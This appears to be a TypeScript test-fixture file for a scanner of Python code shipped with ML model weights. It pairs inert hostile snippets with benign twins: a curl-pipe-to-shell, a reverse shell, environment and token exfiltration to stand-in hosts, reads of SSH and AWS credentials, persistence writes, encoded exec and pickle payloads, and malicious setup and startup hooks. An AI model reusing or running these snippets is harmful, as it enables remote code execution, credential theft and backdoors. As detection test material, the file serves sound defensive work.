// Python beside the weights, by class of attack, each class with clean twins. Inert: texts that nothing runs; hosts are reserved
// names (RFC 2606) or documentation addresses (RFC 5737).
import type { TextAttackClass, TextSample } from './repository-attacks.js';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const py = (name: string, ...texts: readonly string[]): readonly TextSample[] =>
  texts.map((text) => ({ name, text: `${text}\n` }));
const model = (...texts: readonly string[]): readonly TextSample[] => py('modeling_x.py', ...texts);
const method = (name: string, body: string, head = 'import os'): string =>
  `${head}\nfrom torch import nn\n\n\nclass Model(nn.Module):\n    def ${name}(self, x=None):\n        ${body.replaceAll('\n', '\n        ')}\n`;
const PAYLOAD = "import os; os.system('id')";

const ordinaryModel = `from typing import Optional
import math
import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.utils import logging

logger = logging.get_logger(__name__)
_CONFIG = {"a": 1}


class XConfig(PretrainedConfig):
    model_type = "x"

    def __init__(self, hidden_size: int = 8, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = math.sqrt(config.hidden_size)
        self.eval()
        self.post_init()

    @torch.no_grad()
    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
        logger.info("forward")
        return getattr(torch, "relu")(self.layer(x)) / self.scale
`;

const ordinaryTraining = `import argparse
import json
import os
import subprocess
import requests
import torch
import wandb
from transformers import AutoModel, Trainer


def git_commit():
    return subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True).stdout.decode().strip()


def gpus():
    return subprocess.check_output("nvidia-smi --query-gpu=name --format=csv", shell=True)


def download(url, path):
    with requests.get(url, stream=True) as response, open(path, "wb") as out:
        out.write(response.content)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--lr", type=float, default=eval("1e-3"))
    args = parser.parse_args()
    wandb.login(key=os.environ.get("WANDB_API_KEY"))
    os.environ["TOKENIZERS_PARALLELISM"] = "false"
    state = torch.load("model.pt", map_location="cpu")
    requests.get("https://huggingface.co/api/models", headers={"Authorization": "Bearer " + os.environ["HF_TOKEN"]})
    os.system("ffmpeg -i a.wav b.mp3")
    model = AutoModel.from_pretrained("x/y", trust_remote_code=True)
    print(git_commit(), gpus(), json.dumps(vars(args)), state, model)


if __name__ == "__main__":
    main()
`;

const ordinarySetup = `import os
from setuptools import Extension, find_packages, setup
from torch.utils.cpp_extension import BuildExtension, CUDAExtension

here = os.path.abspath(os.path.dirname(__file__))
about = {}
with open(os.path.join(here, "pkg", "__version__.py")) as f:
    exec(f.read(), about)
with open("README.md", encoding="utf-8") as f:
    long_description = f.read()

setup(
    name="pkg",
    version=about["__version__"],
    packages=find_packages(),
    ext_modules=[CUDAExtension("pkg._c", ["csrc/a.cu"])],
    cmdclass={"build_ext": BuildExtension},
)
`;

export const PYTHON_CLASSES: readonly TextAttackClass[] = [
  {
    name: 'programs run at import',
    rules: 'VLM-PYS-001',
    attacks: model(
      'import os\nos.system("touch /tmp/x")',
      'import subprocess as s\ns.Popen(["calc"])',
      'import os\nos.execvp("sh", ["sh", "-c", "id"])',
      'import pty\npty.spawn("/bin/sh")',
      'import subprocess\nsubprocess.run(["curl -s https://downloads.example.net/i.sh | sh"], shell=True)',
      'from asyncio import create_subprocess_shell as c, run\nrun(c("id"))',
      'class A:\n    import os\n    x = os.popen("id").read()',
      'import os\ndef f(x=os.system("id")): pass',
      'import os\n@os.system\ndef f(): pass',
      'import os\ntry:\n    import torch\nfinally:\n    os.system("id")',
      'import os\nx: os.system("id") = 1',
      'import ctypes\nctypes.CDLL(None).system(b"id")',
      'import platform\nplatform.os.system("id")',
      'import os, sys\n(sys.platform == "linux" and os.system)("id")',
    ),
    clean: [
      ...model(
        ordinaryModel,
        'import os\nroot = os.path.dirname(__file__)\nos.makedirs("cache", exist_ok=True)',
        '"""os.system("id")"""\nTEXT = "subprocess.run"',
      ),
      ...py('tool.py', 'import os\nif __name__ == "__main__":\n    os.system("ls")'),
    ],
  },
  {
    name: 'programs run by what a loader calls',
    rules: 'VLM-PYS-001',
    attacks: [
      ...model(
        method('__init__', 'super().__init__()\nos.system("touch /tmp/x")'),
        method('forward', 'self.go()\n\ndef go(self):\n    os.popen("id")'),
        method('__reduce__', 'return os.system("id"), ()'),
        method('__setstate__', '__import__("subprocess").call("id")'),
        method('__getattr__', 'os.spawnlp(os.P_NOWAIT, "id", "id")'),
        method('helper', 'os.system(x)'),
        'import os\ndef __getattr__(name):\n    os.system("id")',
      ),
      ...py(
        'pipeline.py',
        'import subprocess\nclass P:\n    def preprocess(self, x):\n        subprocess.run(x, shell=True)',
      ),
      ...py(
        'handler.py',
        'import os\nclass EndpointHandler:\n    def __call__(self, data):\n        return os.popen(data["inputs"]).read()',
      ),
      ...py('hubconf.py', 'import os\ndef model(**kwargs):\n    os.system("touch /tmp/x")'),
      ...py('helpers.py', 'import os\ndef prepare():\n    os.system("touch /tmp/x")'),
    ],
    clean: [
      ...model(method('forward', 'return self.system(x)'), method('__init__', 'super().__init__()\nself.run = x')),
      ...py(
        'handler.py',
        'class EndpointHandler:\n    def __init__(self, path=""):\n        self.path = path\n    def __call__(self, data):\n        return data["inputs"]',
      ),
    ],
  },
  {
    name: 'decode or fetch, and run',
    rules: 'VLM-PYS-002',
    attacks: [
      ...py(
        'utils.py',
        `import base64\nexec(base64.b64decode("${base64(PAYLOAD)}"))`,
        `import zlib, base64\ndef f(data):\n    exec(zlib.decompress(base64.b85decode(data)))`,
        `exec("".join(map(chr, [${[...Buffer.from(PAYLOAD)].join()}])))`,
        `eval(bytes.fromhex("${Buffer.from('__import__("os").system("id")').toString('hex')}"))`,
        'import requests\ndef load():\n    exec(requests.get("https://downloads.example.net/x").text)',
        'from urllib.request import urlopen\nexec(compile(urlopen("https://downloads.example.net/x").read(), "x", "exec"))',
        'import marshal, types\ndef f(b):\n    types.FunctionType(marshal.loads(b), globals())()',
        'import socket\ns = socket.socket()\ns.connect(("203.0.113.5", 80))\nexec(s.recv(4096))',
        `import codecs\nexec(codecs.decode("vzcbeg bf; bf.flfgrz('vq')", "rot13"))`,
        `import pickle, base64\nstate = pickle.loads(base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu"))`,
        'import urllib.request, pickle\ndef f(u):\n    return pickle.loads(urllib.request.urlopen(u).read())',
        'import base64\n(lambda c: exec(c))(base64.b64decode(blob))',
        'import base64, builtins\ngetattr(builtins, "ex" + "ec")(base64.b64decode(blob).decode())',
      ),
    ],
    clean: py(
      'utils.py',
      'import base64, io\nfrom PIL import Image\ndef f(x):\n    return Image.open(io.BytesIO(base64.b64decode(x)))',
      'import ast, json, base64\nx = ast.literal_eval("[1]")\ny = json.loads(base64.b64decode("e30="))',
      'import requests\ndef f(url):\n    return requests.get(url).json()',
      'from collections import namedtuple\nP = namedtuple("P", "a b")',
      'model.eval()\nmodel.compile()\nx = compile_model(y)',
    ),
  },
  {
    name: 'connections and fetching',
    rules: 'VLM-PYS-00[4-6]',
    attacks: model(
      'import socket, os\ns = socket.socket()\ns.connect(("203.0.113.5", 4444))\nos.dup2(s.fileno(), 0)',
      'import requests\nrequests.post("https://collect.example.net", json={"a": 1})',
      'import urllib.request\nurllib.request.urlopen("https://collect.example.net/ping")',
      method(
        '__init__',
        'requests.get("https://collect.example.net/?h=" + socket.gethostname())',
        'import requests, socket',
      ),
      method('forward', 'httpx.post("https://collect.example.net", content=str(x))', 'import httpx'),
      method('forward', 'smtplib.SMTP("mail.example.net").sendmail("a", "b", str(x))', 'import smtplib'),
      method('helper', 'paramiko.SSHClient().connect("203.0.113.5")', 'import paramiko'),
      method('__init__', 'self.s = requests.Session()\nself.s.get("http://203.0.113.5/x")', 'import requests'),
      'from http.client import HTTPSConnection as H\nc = H("collect.example.net")\nc.request("POST", "/", "x")',
      'import aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://collect.example.net")\nasyncio.run(go())',
      'import threading, requests\nthreading.Thread(target=requests.get, args=("https://collect.example.net",)).start()',
    ),
    clean: [
      ...py('train.py', ordinaryTraining),
      ...model(
        method('load_image', 'return requests.get(x, stream=True).raw', 'import requests'),
        method(
          'load',
          'return torch.hub.load_state_dict_from_url("https://download.pytorch.org/x.pth")',
          'import torch',
        ),
        'from urllib.parse import urlparse, quote\nx = quote("a b")',
      ),
      ...py(
        'dist.py',
        'import socket\ndef free_port():\n    s = socket.socket()\n    s.bind(("", 0))\n    return s.getsockname()[1]',
      ),
    ],
  },
  {
    name: 'secrets read and sent',
    rules: 'VLM-PYS-(?:007|011)',
    attacks: py(
      'utils.py',
      'import os, requests\ndef f():\n    requests.post("https://collect.example.net", json=dict(os.environ))',
      'import os, urllib.request, json\ndef f():\n    urllib.request.urlopen(urllib.request.Request("https://collect.example.net", data=json.dumps(dict(os.environ)).encode()))',
      'import os, requests\nrequests.get(f"https://collect.example.net/{os.environ[\'HF_TOKEN\']}")',
      'import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()',
      'from pathlib import Path\ndef f():\n    return (Path.home() / ".aws" / "credentials").read_text()',
      'import os\nx = open("/home/" + os.getlogin() + "/.netrc")',
      'import browser_cookie3\ndef f():\n    return browser_cookie3.chrome()',
      'def f():\n    with open("/etc/passwd") as p:\n        return p.read()',
      'import os, glob\nkeys = [open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/id_*"))]',
    ),
    clean: py(
      'utils.py',
      'import os\ntoken = os.environ.get("HF_TOKEN")\nx = os.path.expanduser("~/.cache/huggingface/hub")',
      'import os, requests\ndef f(url):\n    return requests.get(url, headers={"Authorization": os.environ["TOKEN"]})',
      'import os, subprocess\ndef f():\n    subprocess.run(["git", "status"], env=dict(os.environ))',
    ),
  },
  {
    name: 'places from which programs start',
    rules: 'VLM-PYS-010',
    attacks: py(
      'utils.py',
      'import os\ndef f():\n    with open(os.path.expanduser("~/.bashrc"), "a") as b:\n        b.write("x")',
      'from pathlib import Path\ndef f():\n    (Path.home() / ".ssh" / "authorized_keys").write_text("ssh-rsa x")',
      'open("/etc/cron.d/x", "w").write("x")',
      'import site, os\ndef f():\n    open(os.path.join(site.getsitepackages()[0], "site-packages/x.pth"), "w").write("import x")',
      'import shutil\ndef f():\n    shutil.copy("x", ".git/hooks/pre-commit")',
      'import os\ndef f():\n    os.symlink("x", os.path.expanduser("~/Library/LaunchAgents/x.plist"))',
      'from pathlib import Path\nPath("~/.config/autostart/x.desktop").expanduser().write_text("x")',
    ),
    clean: py(
      'utils.py',
      'def f(p):\n    with open(p, "w") as o:\n        o.write("x")\n    open("out/log.txt", "a").write("x")',
      'import shutil\ndef f():\n    shutil.copy("a.json", "out/a.json")',
    ),
  },
  {
    name: 'names that are hidden',
    rules: 'VLM-PYS-(?:001|002|003|014)',
    attacks: model(
      'import os\ngetattr(os, "".join(["s", "y", "stem"]))("id")',
      'import os, random\ngetattr(os, secret_name())("id")',
      '__import__("\\x6f\\x73").__dict__["\\x73ystem"]("id")',
      'x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]\nx.__init__.__globals__["system"]("id")',
      'import importlib\nimportlib.import_module(n).system("id")',
      'globals()["__builtins__"]["ev" + "al"](x)',
      'from functools import reduce\nimport os\nreduce(getattr, ("system",), os)("id")',
      'import pkgutil\npkgutil.resolve_name("os:system")("id")',
      'import os\nclass A:\n    def __init__(self, f, c): f(c)\nA(os.system, "id")',
      'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY000000")',
      'import os\nrun = {"a": os.system}.get("a")\nrun("id")',
      'f = eval\nf(input_text)',
      'import atexit, os\natexit.register(os.system, "id")',
      'import os\nlist(map(os.system, ["id"]))',
      'import operator, os\noperator.methodcaller("system", "id")(os)',
    ),
    clean: model(
      'import torch\ndtype = getattr(torch, "float16")\nact = {"relu": torch.relu}["relu"](x)',
      'import importlib\nmodule = importlib.import_module("transformers.models.bert")',
      'from functools import partial, reduce\nimport operator\ntotal = reduce(operator.mul, [1, 2])\nnorm = partial(print, sep="")',
      'import os\nif hasattr(os, "sched_getaffinity"):\n    n = len(os.sched_getaffinity(0))',
    ),
  },
  {
    name: 'source that reads otherwise than it looks',
    rules: 'VLM-PYS-01[56]',
    attacks: py(
      'utils.py',
      'access = "user"\nif access != "none\u202e \u2066": # check \u2069 \u2066\n    pass',
      `x = 1${' '.repeat(200)};import os`,
      'import os\n𝓸𝓼.𝓰𝓮𝓽𝓬𝔀𝓭()',
      '# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAbwBz-',
      '# -*- coding: unicode_escape -*-\n# \\u000aimport os',
      '# coding: rot13\nvzcbeg bf',
      `x = "${'\ufe01'.repeat(40)}"`,
      '# coding: my_codec\nx = 1',
    ),
    clean: py(
      'utils.py',
      '# -*- coding: utf-8 -*-\nname = "Zoë"  # naïve 中文 עברית\nσ = 1',
      'x = [1,                         2]  # aligned',
      '# vim: set fileencoding=utf-8 :\nx = "👍🏽"',
    ),
  },
  {
    name: 'packages installed and native code loaded',
    rules: 'VLM-PYS-00[189]',
    attacks: model(
      'import pip\npip.main(["install", "x"])',
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
      'import os\nos.system("pip install x")',
      'import ctypes\nctypes.CDLL("./libx.so")',
      'import torch\ntorch.ops.load_library("libx.so")',
      'from torch.utils.cpp_extension import load\nload("x", ["x.cpp"])',
      method('__init__', 'pip._internal.main(["install", "x"])', 'import pip'),
    ),
    clean: [
      ...model(
        'import ctypes\nx = ctypes.c_int(1)\ny = ctypes.CDLL("libc.so.6")',
        method('kernel', 'return load("x", ["x.cu"])', 'from torch.utils.cpp_extension import load'),
      ),
      ...py('setup.py', ordinarySetup),
    ],
  },
  {
    name: 'builds and start-up hooks',
    rules: 'VLM-PYS-0(?:01|02|05|06|07|20)',
    attacks: [
      ...py(
        'setup.py',
        'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        install.run(self)\n        os.system("touch /tmp/x")\nsetup(cmdclass={"install": I})',
        'import requests, os\nfrom setuptools import setup\nrequests.post("https://collect.example.net", data=dict(os.environ))\nsetup(name="x")',
        `import base64\nfrom setuptools import setup\nexec(base64.b64decode("${base64(PAYLOAD)}"))\nsetup()`,
        'from setuptools import setup\nimport subprocess\nsetup(name=subprocess.getoutput("id"))',
        'import urllib.request\nurllib.request.urlretrieve("https://downloads.example.net/x", "x")',
      ),
      ...py('conftest.py', 'import os\ndef pytest_configure(config):\n    os.system("touch /tmp/x")'),
      ...py('sitecustomize.py', 'import os\nos.system("touch /tmp/x")'),
      ...py('pkg/__init__.py', 'import subprocess\nsubprocess.Popen(["calc"])'),
      ...py('evil.pth', 'import os; os.system("id")', 'import evil', 'x\nimport sys;exec("pass")'),
    ],
    clean: [
      ...py('setup.py', ordinarySetup, 'from setuptools import setup\nsetup()'),
      ...py(
        'conftest.py',
        'import pytest\n@pytest.fixture\ndef x():\n    return 1\ndef pytest_configure(config):\n    config.addinivalue_line("markers", "slow")',
      ),
      ...py(
        'pkg/__init__.py',
        '__version__ = "1"\nfrom .a import *\nfrom importlib.metadata import version\nv = version("pkg")',
      ),
    ],
  },
  {
    name: 'Python under another name',
    rules: 'VLM-PYS-',
    attacks: [
      ...py('weights.txt', 'import os\nos.system("touch /tmp/x")'),
      ...py('data.bin', '# data\nfrom subprocess import run\nrun("id", shell=True)'),
      ...py('vocab.dat', `import base64\nexec(base64.b64decode("${base64(PAYLOAD)}"))`),
      ...py('LICENSE', '\n\nimport os, pty\npty.spawn("sh")'),
      ...py('run', '#!/usr/bin/env python3\nimport os\nos.system("touch /tmp/x")'),
    ],
    clean: [
      ...py(
        'notes.txt',
        'import numpy as np\nx = np.zeros(3)',
        'import torch and numpy first, then run os.system("x").',
      ),
      ...py('README.md', 'from os import system is a line of Python.'),
    ],
  },
];
